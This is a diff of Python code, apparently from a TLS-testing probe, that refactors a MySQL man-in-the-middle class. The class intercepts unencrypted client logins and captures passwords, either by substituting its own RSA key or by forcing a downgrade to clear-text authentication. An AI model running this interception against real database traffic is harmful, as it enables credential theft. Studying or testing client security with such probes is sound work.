@@ -9,17 +9,22 @@ from contextlib import contextmanager, suppress
 from dataclasses import dataclass, field
 from typing import Literal
 
-from cryptography.hazmat.primitives import hashes, serialization
-from cryptography.hazmat.primitives.asymmetric import padding, rsa
+from cryptography.hazmat.primitives.asymmetric import rsa
 
-CLIENT_SSL = 0x0800
-"""In the client's first packet: it goes on with TLS (source documentation, "Protocol::SSLRequest")."""
+from tlstax.probes.drivers.login_packets import (
+    CLIENT_SSL,
+    PATIENCE_S,
+    framed,
+    packet,
+    pass_on,
+    public_pem,
+    scramble_of,
+    unmasked,
+)
 
 FULL_AUTHENTICATION = b"\x01\x04"
 REQUEST_PUBLIC_KEY = b"\x02"
 SWITCH_TO_CLEAR = b"\xfemysql_clear_password\x00"
-SCRAMBLE_BYTES = 20
-PATIENCE_S = 60.0
 
 Trick = Literal["own key", "clear password"]
 
@@ -62,71 +67,24 @@ class ManInTheMiddle:
         with client, socket.create_connection(address) as server, suppress(OSError, EOFError):
             for channel in (client, server):
                 channel.settimeout(PATIENCE_S)
-            _, greeting = _packet(server)
-            client.sendall(_framed(0, greeting))
-            number, first = _packet(client)
+            _, greeting = packet(server)
+            client.sendall(framed(0, greeting))
+            number, first = packet(client)
             if int.from_bytes(first[:2], "little") & CLIENT_SSL:
-                server.sendall(_framed(number, first))
-                _pass_on(client, server)
+                server.sendall(framed(number, first))
+                pass_on(client, server)
                 return
             self.logins += 1
             asking = FULL_AUTHENTICATION if self.trick == "own key" else SWITCH_TO_CLEAR
-            client.sendall(_framed(number + 1, asking))
+            client.sendall(framed(number + 1, asking))
             while True:
-                self._take(client, *_packet(client), _scramble(greeting))
+                self._take(client, *packet(client), scramble_of(greeting))
 
     def _take(self, client: socket.socket, number: int, said: bytes, scramble: bytes) -> None:
         self.packets.append(said)
         if self.trick == "clear password":
             self.passwords.append(said.rstrip(b"\0").decode())
         elif said == REQUEST_PUBLIC_KEY:
-            pem = self.key.public_key().public_bytes(
-                serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
-            )
-            client.sendall(_framed(number + 1, b"\x01" + pem))
+            client.sendall(framed(number + 1, b"\x01" + public_pem(self.key)))
         else:
-            oaep = padding.OAEP(padding.MGF1(hashes.SHA1()), hashes.SHA1(), None)  # noqa: S303 (MySQL's)
-            masked = self.key.decrypt(said, oaep)
-            text = bytes(byte ^ scramble[place % SCRAMBLE_BYTES] for place, byte in enumerate(masked))
-            self.passwords.append(text.rstrip(b"\0").decode())
-
-
-def _scramble(greeting: bytes) -> bytes:
-    """In two parts, of 8 bytes and of 12 (source documentation, "Protocol::HandshakeV10")."""
-    after_version = greeting.index(b"\0", 1) + 1
-    first = after_version + 4
-    second = first + 8 + 1 + 2 + 1 + 2 + 2 + 1 + 10
-    return greeting[first : first + 8] + greeting[second : second + 12]
-
-
-def _pass_on(client: socket.socket, server: socket.socket) -> None:
-    def one_way(source: socket.socket, sink: socket.socket) -> None:
-        with suppress(OSError):
-            while data := source.recv(1 << 16):
-                sink.sendall(data)
-        with suppress(OSError):
-            sink.shutdown(socket.SHUT_WR)
-
-    back = threading.Thread(target=one_way, args=(server, client))
-    back.start()
-    one_way(client, server)
-    back.join(PATIENCE_S)
-
-
-def _packet(channel: socket.socket) -> tuple[int, bytes]:
-    header = _exactly(channel, 4)
-    return header[3], _exactly(channel, int.from_bytes(header[:3], "little"))
-
-
-def _exactly(channel: socket.socket, count: int) -> bytes:
-    data = b""
-    while len(data) < count:
-        more = channel.recv(count - len(data))
-        if not more:
-            raise EOFError
-        data += more
-    return data
-
-
-def _framed(number: int, payload: bytes) -> bytes:
-    return len(payload).to_bytes(3, "little") + bytes([number % 256]) + payload
+            self.passwords.append(unmasked(self.key, said, scramble).rstrip(b"\0").decode())
